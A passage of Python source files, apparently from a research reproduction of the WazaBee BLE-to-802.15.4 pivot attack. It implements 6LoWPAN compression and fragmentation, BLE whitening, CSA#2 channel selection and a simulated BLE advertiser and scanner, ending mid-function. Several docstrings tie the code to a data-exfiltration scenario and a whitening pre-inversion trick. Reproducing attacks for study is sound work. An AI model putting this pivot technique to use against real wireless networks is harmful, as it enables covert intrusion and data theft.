