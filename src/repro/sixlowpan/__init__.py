"""6LoWPAN adaptation layer (RFC 4944 / RFC 6282 subset).

The paper's conclusion stresses that WazaBee reaches "each system
communicating via a protocol based on the 802.15.4 standard (Zigbee,
6LoWPan ...)".  This package supplies the 6LoWPAN side: IPv6/UDP header
compression (IPHC + UDP NHC), RFC 4944 fragmentation/reassembly, and an
adaptation layer binding datagrams to 802.15.4 MAC frames — enough to run
the paper's data-exfiltration motif end-to-end over the pivot
(``examples/sixlowpan_exfiltration.py``).
"""

from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address
from repro.sixlowpan.iphc import compress_datagram, decompress_datagram
from repro.sixlowpan.fragmentation import fragment_datagram, Reassembler
from repro.sixlowpan.adaptation import SixLowpanAdaptation

__all__ = [
    "Ipv6Header",
    "UdpDatagram",
    "link_local_address",
    "compress_datagram",
    "decompress_datagram",
    "fragment_datagram",
    "Reassembler",
    "SixLowpanAdaptation",
]
