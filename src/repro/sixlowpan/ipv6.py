"""Minimal IPv6 + UDP representations for the 6LoWPAN layer.

Only what the adaptation layer needs: the fixed IPv6 header, UDP with a
correct checksum over the IPv6 pseudo-header, and the link-local addresses
6LoWPAN derives from 802.15.4 short addresses (RFC 4944 §6: the IID is
formed from the PAN id and the 16-bit short address).
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field
from typing import Optional, Tuple

__all__ = [
    "Ipv6Header",
    "UdpDatagram",
    "link_local_address",
    "udp_checksum",
    "NEXT_HEADER_UDP",
]

NEXT_HEADER_UDP = 17
_LINK_LOCAL_PREFIX = bytes.fromhex("fe80") + bytes(6)


def link_local_address(pan_id: int, short_address: int) -> bytes:
    """RFC 4944 §6 link-local address for a short-addressed node.

    IID = PAN id (with the universal/local bit cleared) : 00FF:FE00 : short
    address, under the fe80::/64 prefix.  Returned as 16 raw bytes.
    """
    if not 0 <= pan_id <= 0xFFFF or not 0 <= short_address <= 0xFFFF:
        raise ValueError("pan id and short address must be 16-bit")
    iid = (
        bytes([(pan_id >> 8) & 0xFD, pan_id & 0xFF])
        + bytes.fromhex("00fffe00")
        + short_address.to_bytes(2, "big")
    )
    return _LINK_LOCAL_PREFIX + iid


@dataclass(frozen=True)
class Ipv6Header:
    """The fixed 40-byte IPv6 header."""

    source: bytes
    destination: bytes
    payload_length: int = 0
    next_header: int = NEXT_HEADER_UDP
    hop_limit: int = 64
    traffic_class: int = 0
    flow_label: int = 0

    def __post_init__(self) -> None:
        if len(self.source) != 16 or len(self.destination) != 16:
            raise ValueError("IPv6 addresses are 16 bytes")
        if not 0 <= self.flow_label < 1 << 20:
            raise ValueError("flow label is 20 bits")
        if not 0 <= self.traffic_class <= 0xFF:
            raise ValueError("traffic class is 8 bits")
        if not 0 <= self.hop_limit <= 0xFF:
            raise ValueError("hop limit is 8 bits")

    def to_bytes(self) -> bytes:
        word = (6 << 28) | (self.traffic_class << 20) | self.flow_label
        return (
            word.to_bytes(4, "big")
            + self.payload_length.to_bytes(2, "big")
            + bytes([self.next_header, self.hop_limit])
            + self.source
            + self.destination
        )

    @staticmethod
    def from_bytes(raw: bytes) -> "Ipv6Header":
        if len(raw) < 40:
            raise ValueError("IPv6 header is 40 bytes")
        word = int.from_bytes(raw[0:4], "big")
        if word >> 28 != 6:
            raise ValueError("not an IPv6 packet")
        return Ipv6Header(
            traffic_class=(word >> 20) & 0xFF,
            flow_label=word & 0xFFFFF,
            payload_length=int.from_bytes(raw[4:6], "big"),
            next_header=raw[6],
            hop_limit=raw[7],
            source=bytes(raw[8:24]),
            destination=bytes(raw[24:40]),
        )

    def pretty_source(self) -> str:
        return str(ipaddress.IPv6Address(self.source))

    def pretty_destination(self) -> str:
        return str(ipaddress.IPv6Address(self.destination))


def _ones_complement_sum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = 0
    for i in range(0, len(data), 2):
        total += int.from_bytes(data[i : i + 2], "big")
        total = (total & 0xFFFF) + (total >> 16)
    return total


def udp_checksum(header: Ipv6Header, udp_bytes: bytes) -> int:
    """UDP checksum over the IPv6 pseudo-header (RFC 2460 §8.1)."""
    pseudo = (
        header.source
        + header.destination
        + len(udp_bytes).to_bytes(4, "big")
        + bytes(3)
        + bytes([NEXT_HEADER_UDP])
    )
    value = _ones_complement_sum(pseudo + udp_bytes) ^ 0xFFFF
    return value or 0xFFFF


@dataclass(frozen=True)
class UdpDatagram:
    """A UDP datagram (header fields + payload)."""

    source_port: int
    destination_port: int
    payload: bytes

    def __post_init__(self) -> None:
        for port in (self.source_port, self.destination_port):
            if not 0 <= port <= 0xFFFF:
                raise ValueError("UDP ports are 16-bit")

    @property
    def length(self) -> int:
        return 8 + len(self.payload)

    def to_bytes(self, ip_header: Ipv6Header) -> bytes:
        """Serialise with a valid checksum for *ip_header*."""
        without_checksum = (
            self.source_port.to_bytes(2, "big")
            + self.destination_port.to_bytes(2, "big")
            + self.length.to_bytes(2, "big")
            + b"\x00\x00"
            + self.payload
        )
        checksum = udp_checksum(ip_header, without_checksum)
        return (
            without_checksum[:6]
            + checksum.to_bytes(2, "big")
            + without_checksum[8:]
        )

    @staticmethod
    def from_bytes(
        raw: bytes, ip_header: Optional[Ipv6Header] = None
    ) -> Tuple["UdpDatagram", bool]:
        """Parse; returns ``(datagram, checksum_ok)``.

        The checksum is only verifiable when *ip_header* is supplied.
        """
        if len(raw) < 8:
            raise ValueError("UDP header is 8 bytes")
        length = int.from_bytes(raw[4:6], "big")
        if length < 8 or length > len(raw):
            raise ValueError("bad UDP length")
        datagram = UdpDatagram(
            source_port=int.from_bytes(raw[0:2], "big"),
            destination_port=int.from_bytes(raw[2:4], "big"),
            payload=bytes(raw[8:length]),
        )
        checksum_ok = True
        if ip_header is not None:
            checksum_ok = (
                udp_checksum(ip_header, raw[:6] + b"\x00\x00" + raw[8:length])
                == int.from_bytes(raw[6:8], "big")
            )
        return datagram, checksum_ok
