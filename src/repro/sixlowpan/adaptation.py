"""The 6LoWPAN adaptation layer: UDP datagrams over 802.15.4 MAC frames.

Binds the compression and fragmentation machinery to a
:class:`~repro.dot15d4.mac.MacService`: outgoing UDP sends become one or
more MAC data frames; incoming frames are reassembled, decompressed and
dispatched to the bound UDP handler.  Addressing is link-local, with IIDs
derived from (PAN id, short address) per RFC 4944.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional

from repro.dot15d4.frames import Address, MacFrame
from repro.dot15d4.mac import MacService
from repro.sixlowpan.fragmentation import Reassembler, fragment_datagram
from repro.sixlowpan.iphc import compress_datagram, decompress_datagram, link_iid
from repro.sixlowpan.ipv6 import Ipv6Header, UdpDatagram, link_local_address

__all__ = ["ReceivedUdp", "SixLowpanAdaptation"]


@dataclass(frozen=True)
class ReceivedUdp:
    """A delivered UDP datagram with its reconstructed IPv6 context."""

    header: Ipv6Header
    datagram: UdpDatagram
    checksum_ok: bool
    link_source: int


UdpHandler = Callable[[ReceivedUdp], None]


class SixLowpanAdaptation:
    """One node's 6LoWPAN stack instance."""

    def __init__(
        self,
        mac: MacService,
        max_fragment_payload: int = 96,
        hop_limit: int = 64,
        fragment_spacing_s: float = 5e-3,
    ):
        self.mac = mac
        self.max_fragment_payload = max_fragment_payload
        self.hop_limit = hop_limit
        #: Inter-fragment gap; must exceed one frame's airtime plus the
        #: acknowledgement turnaround (the radio is half-duplex).
        self.fragment_spacing_s = fragment_spacing_s
        self.reassembler = Reassembler()
        self._handler: Optional[UdpHandler] = None
        self._next_tag = 0
        self.sent_datagrams = 0
        self.received_datagrams = 0
        self.decode_failures = 0
        mac.on_data(self._on_mac_frame)

    # -- addressing -----------------------------------------------------------
    @property
    def address(self) -> bytes:
        """This node's link-local IPv6 address."""
        return link_local_address(
            self.mac.address.pan_id, self.mac.address.address
        )

    def neighbour_address(self, short_address: int) -> bytes:
        return link_local_address(self.mac.address.pan_id, short_address)

    # -- sending ---------------------------------------------------------------
    def send_udp(
        self,
        destination_short: int,
        source_port: int,
        destination_port: int,
        payload: bytes,
        ack: bool = True,
    ) -> List[int]:
        """Send a UDP datagram; returns the MAC sequence numbers used."""
        destination_ip = self.neighbour_address(destination_short)
        header = Ipv6Header(
            source=self.address,
            destination=destination_ip,
            hop_limit=self.hop_limit,
        )
        udp = UdpDatagram(source_port, destination_port, payload)
        udp_bytes = udp.to_bytes(header)
        compressed = compress_datagram(
            header,
            udp_bytes,
            source_link_iid=link_iid(
                self.mac.address.pan_id, self.mac.address.address
            ),
            destination_link_iid=link_iid(
                self.mac.address.pan_id, destination_short
            ),
        )
        tag = self._next_tag
        self._next_tag = (self._next_tag + 1) & 0xFFFF
        fragments = fragment_datagram(
            compressed, tag=tag, max_fragment_payload=self.max_fragment_payload
        )
        destination = Address(
            pan_id=self.mac.address.pan_id, address=destination_short
        )
        # Fragments are spaced out in time: the link is half-duplex and the
        # receiver must acknowledge each frame before the next arrives.
        scheduler = self.mac.radio.transceiver.medium.scheduler
        sequences: List[int] = []
        for index, fragment in enumerate(fragments):
            sequences.append(self.mac.next_sequence())

            def send(fragment=fragment, sequence=sequences[-1]) -> None:
                from repro.dot15d4.frames import build_data

                frame = build_data(
                    source=self.mac.address,
                    destination=destination,
                    payload=fragment,
                    sequence_number=sequence,
                    ack_request=ack,
                )
                if self.mac.security is not None:
                    frame = self.mac.security.protect(frame)
                self.mac.send_frame(frame)

            if index == 0:
                send()
            else:
                scheduler.schedule(index * self.fragment_spacing_s, send)
        self.sent_datagrams += 1
        return sequences

    # -- receiving ---------------------------------------------------------------
    def on_udp(self, handler: UdpHandler) -> None:
        self._handler = handler

    def _on_mac_frame(self, frame: MacFrame) -> None:
        if frame.source is None:
            return
        datagram = self.reassembler.accept(frame.source.address, frame.payload)
        if datagram is None:
            return
        try:
            header, transport = decompress_datagram(
                datagram,
                source_link_iid=link_iid(
                    frame.source.pan_id, frame.source.address
                ),
                destination_link_iid=link_iid(
                    self.mac.address.pan_id, self.mac.address.address
                ),
            )
            udp, checksum_ok = UdpDatagram.from_bytes(transport, header)
        except ValueError:
            self.decode_failures += 1
            return
        self.received_datagrams += 1
        if self._handler is not None:
            self._handler(
                ReceivedUdp(
                    header=header,
                    datagram=udp,
                    checksum_ok=checksum_ok,
                    link_source=frame.source.address,
                )
            )
