"""LOWPAN_IPHC header compression (RFC 6282, stateless subset).

Implements the compression paths a link-local 6LoWPAN actually exercises:

* traffic class / flow label elided when zero, inline otherwise;
* hop limit compressed to the 1/64/255 codepoints, inline otherwise;
* stateless source/destination address compression: full inline (mode 0),
  64-bit IID (mode 1), 16-bit ``...:ff:fe00:XXXX`` IID (mode 2) and fully
  elided — derived from the 802.15.4 addresses (mode 3);
* LOWPAN_NHC for UDP with the three port-compression forms; the checksum
  always rides inline (C=0) so end-to-end integrity is preserved.

Context-based compression (CID/SAC/DAC) and multicast destinations are out
of scope and raise ``ValueError`` — the adaptation layer only speaks
link-local unicast, like the exfiltration scenario it supports.
"""

from __future__ import annotations

from typing import Optional, Tuple

from repro.sixlowpan.ipv6 import (
    Ipv6Header,
    NEXT_HEADER_UDP,
    link_local_address,
)

__all__ = ["compress_datagram", "decompress_datagram", "DISPATCH_IPHC"]

#: Dispatch bits ``011`` in the top of the first IPHC byte.
DISPATCH_IPHC = 0b011_00000

_LINK_LOCAL_PREFIX = bytes.fromhex("fe80") + bytes(6)
_IID_16BIT_MARKER = bytes.fromhex("000000fffe00")
_UDP_NHC_DISPATCH = 0b11110_000
_UDP_PORT_BASE = 0xF0B0


def _address_mode(address: bytes, link_iid: Optional[bytes]) -> Tuple[int, bytes]:
    """Pick the tightest stateless compression mode for an address."""
    if address[0] == 0xFF:
        raise ValueError("multicast destinations are not supported")
    if address[:8] != _LINK_LOCAL_PREFIX:
        return 0b00, address
    iid = address[8:]
    if link_iid is not None and iid == link_iid:
        return 0b11, b""
    if iid[:6] == _IID_16BIT_MARKER:
        return 0b10, iid[6:]
    return 0b01, iid


def _expand_address(mode: int, inline: bytes, link_iid: Optional[bytes]) -> bytes:
    if mode == 0b00:
        return inline
    if mode == 0b01:
        return _LINK_LOCAL_PREFIX + inline
    if mode == 0b10:
        return _LINK_LOCAL_PREFIX + _IID_16BIT_MARKER + inline
    if link_iid is None:
        raise ValueError("mode-3 address needs the link-layer address")
    return _LINK_LOCAL_PREFIX + link_iid


def _inline_size(mode: int) -> int:
    return {0b00: 16, 0b01: 8, 0b10: 2, 0b11: 0}[mode]


def link_iid(pan_id: int, short_address: int) -> bytes:
    """The IID a node's 802.15.4 short address maps to (RFC 4944 §6)."""
    return link_local_address(pan_id, short_address)[8:]


def _compress_udp(udp_bytes: bytes) -> bytes:
    source = int.from_bytes(udp_bytes[0:2], "big")
    destination = int.from_bytes(udp_bytes[2:4], "big")
    checksum = udp_bytes[6:8]
    payload = udp_bytes[8:]
    if (
        source & 0xFFF0 == _UDP_PORT_BASE
        and destination & 0xFFF0 == _UDP_PORT_BASE
    ):
        head = bytes(
            [
                _UDP_NHC_DISPATCH | 0b11,
                ((source & 0xF) << 4) | (destination & 0xF),
            ]
        )
    elif destination >> 8 == 0xF0:
        head = (
            bytes([_UDP_NHC_DISPATCH | 0b01])
            + source.to_bytes(2, "big")
            + bytes([destination & 0xFF])
        )
    elif source >> 8 == 0xF0:
        head = (
            bytes([_UDP_NHC_DISPATCH | 0b10, source & 0xFF])
            + destination.to_bytes(2, "big")
        )
    else:
        head = (
            bytes([_UDP_NHC_DISPATCH])
            + source.to_bytes(2, "big")
            + destination.to_bytes(2, "big")
        )
    return head + checksum + payload


def _decompress_udp(data: bytes) -> Tuple[bytes, int]:
    """Rebuild the UDP header; returns (udp_bytes, consumed_compressed)."""
    if not data:
        raise ValueError("empty LOWPAN_NHC header")
    first = data[0]
    if first & 0b11111000 != _UDP_NHC_DISPATCH:
        raise ValueError("not a LOWPAN_NHC UDP header")
    if first & 0b100:
        raise ValueError("elided UDP checksums are not supported")
    ports_mode = first & 0b11
    needed = 1 + {0b11: 1, 0b01: 3, 0b10: 3, 0b00: 4}[ports_mode] + 2
    if len(data) < needed:
        raise ValueError("truncated LOWPAN_NHC UDP header")
    cursor = 1
    if ports_mode == 0b11:
        source = _UDP_PORT_BASE | (data[cursor] >> 4)
        destination = _UDP_PORT_BASE | (data[cursor] & 0xF)
        cursor += 1
    elif ports_mode == 0b01:
        source = int.from_bytes(data[cursor : cursor + 2], "big")
        destination = 0xF000 | data[cursor + 2]
        cursor += 3
    elif ports_mode == 0b10:
        source = 0xF000 | data[cursor]
        destination = int.from_bytes(data[cursor + 1 : cursor + 3], "big")
        cursor += 3
    else:
        source = int.from_bytes(data[cursor : cursor + 2], "big")
        destination = int.from_bytes(data[cursor + 2 : cursor + 4], "big")
        cursor += 4
    checksum = data[cursor : cursor + 2]
    cursor += 2
    payload = data[cursor:]
    length = 8 + len(payload)
    udp = (
        source.to_bytes(2, "big")
        + destination.to_bytes(2, "big")
        + length.to_bytes(2, "big")
        + checksum
        + payload
    )
    return udp, cursor


def compress_datagram(
    header: Ipv6Header,
    payload: bytes,
    source_link_iid: Optional[bytes] = None,
    destination_link_iid: Optional[bytes] = None,
) -> bytes:
    """Compress an IPv6 datagram (header + payload) into IPHC form.

    *payload* is the transport payload (e.g. a serialised UDP datagram when
    ``header.next_header == 17``, in which case UDP NHC is applied).
    """
    sam, source_inline = _address_mode(header.source, source_link_iid)
    dam, destination_inline = _address_mode(
        header.destination, destination_link_iid
    )
    tf_elided = header.traffic_class == 0 and header.flow_label == 0
    udp_nhc = header.next_header == NEXT_HEADER_UDP and len(payload) >= 8
    hlim_code = {1: 0b01, 64: 0b10, 255: 0b11}.get(header.hop_limit, 0b00)

    byte0 = DISPATCH_IPHC
    byte0 |= (0b11 if tf_elided else 0b00) << 3
    byte0 |= (1 if udp_nhc else 0) << 2
    byte0 |= hlim_code
    byte1 = (sam << 4) | dam

    out = bytearray([byte0, byte1])
    if not tf_elided:
        word = (header.traffic_class << 20) | header.flow_label
        out += word.to_bytes(4, "big")
    if not udp_nhc:
        out.append(header.next_header)
    if hlim_code == 0b00:
        out.append(header.hop_limit)
    out += source_inline
    out += destination_inline
    if udp_nhc:
        out += _compress_udp(payload)
    else:
        out += payload
    return bytes(out)


def decompress_datagram(
    data: bytes,
    source_link_iid: Optional[bytes] = None,
    destination_link_iid: Optional[bytes] = None,
) -> Tuple[Ipv6Header, bytes]:
    """Invert :func:`compress_datagram`; returns (header, transport bytes).

    Raises ``ValueError`` on anything malformed, including truncation.
    """

    def take(cursor: int, count: int) -> bytes:
        chunk = data[cursor : cursor + count]
        if len(chunk) != count:
            raise ValueError("truncated IPHC datagram")
        return chunk

    if len(data) < 2 or data[0] & 0b11100000 != DISPATCH_IPHC:
        raise ValueError("not a LOWPAN_IPHC datagram")
    byte0, byte1 = data[0], data[1]
    tf = (byte0 >> 3) & 0b11
    udp_nhc = bool(byte0 & 0b100)
    hlim_code = byte0 & 0b11
    if byte1 & 0b10001000:
        raise ValueError("context-based and multicast compression unsupported")
    sam = (byte1 >> 4) & 0b11
    dam = byte1 & 0b11

    cursor = 2
    traffic_class = flow_label = 0
    if tf == 0b00:
        word = int.from_bytes(take(cursor, 4), "big")
        traffic_class = (word >> 20) & 0xFF
        flow_label = word & 0xFFFFF
        cursor += 4
    elif tf != 0b11:
        raise ValueError("unsupported TF compression form")
    if udp_nhc:
        next_header = NEXT_HEADER_UDP
    else:
        next_header = take(cursor, 1)[0]
        cursor += 1
    if hlim_code == 0b00:
        hop_limit = take(cursor, 1)[0]
        cursor += 1
    else:
        hop_limit = {0b01: 1, 0b10: 64, 0b11: 255}[hlim_code]

    src_size = _inline_size(sam)
    source = _expand_address(sam, take(cursor, src_size), source_link_iid)
    cursor += src_size
    dst_size = _inline_size(dam)
    destination = _expand_address(
        dam, take(cursor, dst_size), destination_link_iid
    )
    cursor += dst_size

    if udp_nhc:
        payload, _ = _decompress_udp(data[cursor:])
    else:
        payload = bytes(data[cursor:])
    header = Ipv6Header(
        source=source,
        destination=destination,
        payload_length=len(payload),
        next_header=next_header,
        hop_limit=hop_limit,
        traffic_class=traffic_class,
        flow_label=flow_label,
    )
    return header, payload
