"""RFC 4944 §5.3 fragmentation and reassembly.

802.15.4 frames carry ~100 bytes of 6LoWPAN payload; IPv6 requires a
1280-byte MTU, so datagrams are split into a FRAG1 fragment (dispatch
``11000``, carrying the uncompressed datagram size and a tag) followed by
FRAGN fragments (dispatch ``11100``, adding an 8-byte-unit offset).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

__all__ = ["fragment_datagram", "Reassembler", "FRAG1_DISPATCH", "FRAGN_DISPATCH"]

FRAG1_DISPATCH = 0b11000_000
FRAGN_DISPATCH = 0b11100_000
_HEADER1_SIZE = 4
_HEADERN_SIZE = 5
MAX_DATAGRAM_SIZE = (1 << 11) - 1


def fragment_datagram(
    datagram: bytes, tag: int, max_fragment_payload: int = 96
) -> List[bytes]:
    """Split *datagram* into link-sized fragments.

    Returns a single unfragmented payload (no FRAG header) when it fits.
    Offsets are in 8-byte units, so every fragment body except the last is
    trimmed to a multiple of 8.
    """
    if len(datagram) > MAX_DATAGRAM_SIZE:
        raise ValueError("datagram exceeds the 11-bit size field")
    if not 0 <= tag <= 0xFFFF:
        raise ValueError("fragment tag is 16-bit")
    if max_fragment_payload < 16:
        raise ValueError("fragment payload budget too small")
    if len(datagram) <= max_fragment_payload:
        return [datagram]

    size_tag = (len(datagram) & 0x7FF).to_bytes(2, "big")
    size_tag = bytes([FRAG1_DISPATCH | size_tag[0]]) + size_tag[1:]
    size_tag += tag.to_bytes(2, "big")

    first_body = (max_fragment_payload - _HEADER1_SIZE) // 8 * 8
    fragments = [size_tag + datagram[:first_body]]
    offset = first_body
    body_budget = (max_fragment_payload - _HEADERN_SIZE) // 8 * 8
    while offset < len(datagram):
        body = datagram[offset : offset + body_budget]
        header = bytes(
            [FRAGN_DISPATCH | ((len(datagram) >> 8) & 0x07)]
        ) + bytes([len(datagram) & 0xFF]) + tag.to_bytes(2, "big") + bytes(
            [offset // 8]
        )
        fragments.append(header + body)
        offset += len(body)
    return fragments


@dataclass
class _PartialDatagram:
    size: int
    received: Dict[int, bytes] = field(default_factory=dict)

    def add(self, offset: int, body: bytes) -> None:
        self.received[offset] = body

    def assembled(self) -> Optional[bytes]:
        total = bytearray(self.size)
        covered = 0
        for offset, body in self.received.items():
            if offset + len(body) > self.size:
                return None
            total[offset : offset + len(body)] = body
            covered += len(body)
        if covered < self.size:
            return None
        return bytes(total)


class Reassembler:
    """Per-(sender, tag) reassembly buffers."""

    def __init__(self) -> None:
        self._partials: Dict[Tuple[int, int], _PartialDatagram] = {}
        self.completed = 0
        self.dropped = 0

    def accept(self, sender: int, payload: bytes) -> Optional[bytes]:
        """Feed one link payload; returns a whole datagram when complete.

        Non-fragmented payloads are returned immediately.
        """
        if not payload:
            return None
        dispatch = payload[0] & 0b11111000
        if dispatch == FRAG1_DISPATCH:
            if len(payload) < _HEADER1_SIZE:
                self.dropped += 1
                return None
            size = int.from_bytes(payload[0:2], "big") & 0x7FF
            tag = int.from_bytes(payload[2:4], "big")
            partial = self._partials.setdefault(
                (sender, tag), _PartialDatagram(size=size)
            )
            partial.add(0, payload[_HEADER1_SIZE:])
            return self._try_complete(sender, tag)
        if dispatch == FRAGN_DISPATCH:
            if len(payload) < _HEADERN_SIZE:
                self.dropped += 1
                return None
            size = int.from_bytes(payload[0:2], "big") & 0x7FF
            tag = int.from_bytes(payload[2:4], "big")
            offset = payload[4] * 8
            partial = self._partials.setdefault(
                (sender, tag), _PartialDatagram(size=size)
            )
            partial.add(offset, payload[_HEADERN_SIZE:])
            return self._try_complete(sender, tag)
        return payload

    def _try_complete(self, sender: int, tag: int) -> Optional[bytes]:
        partial = self._partials.get((sender, tag))
        if partial is None:
            return None
        datagram = partial.assembled()
        if datagram is not None:
            del self._partials[(sender, tag)]
            self.completed += 1
        return datagram

    @property
    def pending(self) -> int:
        return len(self._partials)
