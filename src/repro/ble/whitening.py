"""BLE data whitening (Bluetooth Core spec vol 6, part B, §3.2).

A 7-bit LFSR with polynomial ``x^7 + x^4 + 1``, seeded from the RF channel
index (bit 6 set, bits 5..0 = channel), XORed over the PDU+CRC bits in
transmission order.  Whitening is an involution: applying it twice with the
same seed restores the input — which is exactly what WazaBee's "whitening
pre-inversion" trick relies on (§IV-D): a payload de-whitened *in advance*
for channel *k* comes out of the radio's whitener as the raw chip stream.

Two implementations are provided: the byte-wise Galois form used by real
firmware (``whitening_sequence``) and, in the tests, an independent
Fibonacci-form derivation from the spec diagram; they are checked against
each other.
"""

from __future__ import annotations

import numpy as np

from repro.ble.channels import whitening_init
from repro.utils.bits import as_bit_array

__all__ = ["whitening_sequence", "whiten", "whiten_bytes"]


def whitening_sequence(channel: int, num_bits: int) -> np.ndarray:
    """First *num_bits* of the whitening stream for a BLE channel."""
    lfsr = whitening_init(channel)
    out = np.empty(num_bits, dtype=np.uint8)
    for i in range(num_bits):
        # Fibonacci form of x^7 + x^4 + 1 with the spec's register layout:
        # output and feedback tap at position 6 (bit 0 of the integer),
        # second tap at position 3 (bit 3), new bit enters at bit 6.
        bit = lfsr & 1
        out[i] = bit
        lfsr >>= 1
        if bit:
            lfsr ^= 0x44  # taps: bit 6 (re-entry) and bit 2 (x^4 path)
    return out


def whiten(bits, channel: int) -> np.ndarray:
    """Whiten (or de-whiten) a bit array for the given channel.

    The operation is its own inverse.
    """
    arr = as_bit_array(bits)
    return arr ^ whitening_sequence(channel, arr.size)


def whiten_bytes(data: bytes, channel: int) -> bytes:
    """Byte-level convenience wrapper (bits LSB-first per byte)."""
    from repro.utils.bits import bits_to_bytes, bytes_to_bits

    return bits_to_bytes(whiten(bytes_to_bits(data), channel))
