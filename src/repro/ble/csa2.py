"""Channel Selection Algorithm #2 (Bluetooth Core spec vol 6, part B, §4.5.8.3).

CSA#2 hashes the connection/advertising event counter with a channel
identifier derived from the Access Address to pick the next RF channel.
Extended advertising uses it to choose the *secondary* advertising channel
carrying AUX_ADV_IND — which is why the smartphone attacker in Scenario A
cannot pick the Zigbee channel deterministically: they can only enable
advertising at the smallest interval and wait for CSA#2 to land on the BLE
channel whose frequency matches the target (the paper's phrasing: "increase
the probability that the channel selection algorithm picks our target
channel").
"""

from __future__ import annotations

from typing import Sequence, Tuple

__all__ = ["channel_identifier", "csa2_select", "Csa2Session"]


def _perm(value: int) -> int:
    """Bit-reverse each byte of a 16-bit value (the spec's PERM block)."""
    out = 0
    for byte_index in (0, 8):
        byte = (value >> byte_index) & 0xFF
        reversed_byte = int(f"{byte:08b}"[::-1], 2)
        out |= reversed_byte << byte_index
    return out


def _mam(a: int, b: int) -> int:
    """Multiply-Add-Modulo block: (17·a + b) mod 2^16."""
    return (17 * a + b) & 0xFFFF


def channel_identifier(access_address: int) -> int:
    """Channel identifier: upper XOR lower half of the Access Address."""
    if not 0 <= access_address <= 0xFFFFFFFF:
        raise ValueError("access address must be a 32-bit value")
    return ((access_address >> 16) ^ access_address) & 0xFFFF


def _prn_e(counter: int, ch_id: int) -> int:
    prn = (counter ^ ch_id) & 0xFFFF
    for _ in range(3):
        prn = _perm(prn)
        prn = _mam(prn, ch_id)
    return prn ^ ch_id


def csa2_select(
    counter: int, access_address: int, used_channels: Sequence[int]
) -> int:
    """Select the data channel for an event.

    Parameters
    ----------
    counter:
        Event counter (connection event or advertising event counter).
    access_address:
        The 32-bit Access Address of the connection / advertising set.
    used_channels:
        Sorted list of channel indices enabled in the channel map.
    """
    used = sorted(set(used_channels))
    if not used:
        raise ValueError("channel map must enable at least one channel")
    bad = [c for c in used if not 0 <= c <= 36]
    if bad:
        raise ValueError(f"data channel indices out of range: {bad}")
    prn_e = _prn_e(counter & 0xFFFF, channel_identifier(access_address))
    unmapped = prn_e % 37
    if unmapped in used:
        return unmapped
    remapping_index = (len(used) * prn_e) >> 16
    return used[remapping_index]


class Csa2Session:
    """Stateful per-event channel selection for an advertising set."""

    def __init__(
        self,
        access_address: int,
        used_channels: Sequence[int] = tuple(range(37)),
        initial_counter: int = 0,
    ):
        self.access_address = access_address
        self.used_channels = tuple(sorted(set(used_channels)))
        self.counter = initial_counter
        # Validate eagerly so construction fails fast.
        csa2_select(initial_counter, access_address, self.used_channels)

    def next_channel(self) -> Tuple[int, int]:
        """Advance one event; return ``(event_counter, channel)``."""
        event = self.counter
        channel = csa2_select(event, self.access_address, self.used_channels)
        self.counter = (self.counter + 1) & 0xFFFF
        return event, channel
