"""A minimal BLE link layer: legacy advertiser and passive scanner.

Gives the simulation genuinely *legitimate* BLE traffic — the background
against which the IDS trains, and a demonstration that the chip models are
ordinary BLE devices before their firmware is replaced.

* :class:`Advertiser` — broadcasts a legacy ADV_NONCONN_IND on the three
  primary advertising channels every ``interval_s`` (plus the spec's 0–10 ms
  advDelay jitter).
* :class:`Scanner` — passively listens on one advertising channel, decodes
  whitened PDUs, verifies the CRC-24 and reports advertisements.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional

import numpy as np

from repro.ble.channels import ADVERTISING_CHANNELS, channel_frequency_hz
from repro.ble.packets import (
    ADVERTISING_ACCESS_ADDRESS,
    AdvNonconnInd,
    PduType,
    PhyMode,
    access_address_bits,
    parse_pdu_bits,
)
from repro.chips.ble_radio import BleRadioPeripheral

__all__ = ["Advertisement", "Advertiser", "Scanner"]

#: Spec advDelay: a pseudo-random 0–10 ms added to each advertising event.
_MAX_ADV_DELAY_S = 10e-3
_PRIMARY_SPACING_S = 400e-6


@dataclass(frozen=True)
class Advertisement:
    """One received advertising PDU."""

    time: float
    channel: int
    pdu_type: int
    advertiser_address: bytes
    adv_data: bytes
    crc_ok: bool


class Advertiser:
    """Legacy non-connectable advertiser on channels 37/38/39."""

    def __init__(
        self,
        chip: BleRadioPeripheral,
        advertiser_address: bytes,
        adv_data: bytes = b"",
        interval_s: float = 0.1,
    ):
        if interval_s < 0.02:
            raise ValueError("advertising interval must be >= 20 ms")
        self.chip = chip
        self.pdu = AdvNonconnInd(advertiser_address, adv_data).to_pdu()
        self.interval_s = interval_s
        self.events = 0
        self._running = False
        self._scheduler = chip.transceiver.medium.scheduler
        self._rng = chip.rng

    def start(self) -> None:
        if not self._running:
            self._running = True
            self._scheduler.schedule(0.0, self._event)

    def stop(self) -> None:
        self._running = False

    def _event(self) -> None:
        if not self._running:
            return
        for index, channel in enumerate(ADVERTISING_CHANNELS):
            self._scheduler.schedule(
                index * _PRIMARY_SPACING_S,
                lambda ch=channel: self.chip.transmit_pdu(
                    self.pdu, channel=ch, phy=PhyMode.LE_1M
                ),
            )
        self.events += 1
        delay = self.interval_s + float(self._rng.uniform(0.0, _MAX_ADV_DELAY_S))
        self._scheduler.schedule(delay, self._event)


class Scanner:
    """Passive scanner on one primary advertising channel."""

    def __init__(self, chip: BleRadioPeripheral, channel: int = 37):
        if channel not in ADVERTISING_CHANNELS:
            raise ValueError("scanner listens on a primary advertising channel")
        self.chip = chip
        self.channel = channel
        self.advertisements: List[Advertisement] = []
        self._handler: Optional[Callable[[Advertisement], None]] = None

    def start(self, handler: Optional[Callable[[Advertisement], None]] = None) -> None:
        self._handler = handler
        self.chip.set_data_rate_1m()
        self.chip.transceiver.tune(channel_frequency_hz(self.channel))
        self.chip.transceiver.start_rx(self._on_capture)

    def stop(self) -> None:
        self.chip.transceiver.stop_rx()
        self._handler = None

    def _on_capture(self, capture, _tx) -> None:
        demod = self.chip._demodulator()
        sync_bits = access_address_bits(ADVERTISING_ACCESS_ADDRESS)
        # Worst case: 2-byte header + 37-byte payload + 3-byte CRC.
        result = demod.demodulate_packet(capture, sync_bits, 8 * 42)
        if result is None:
            return
        bits, _sync = result
        try:
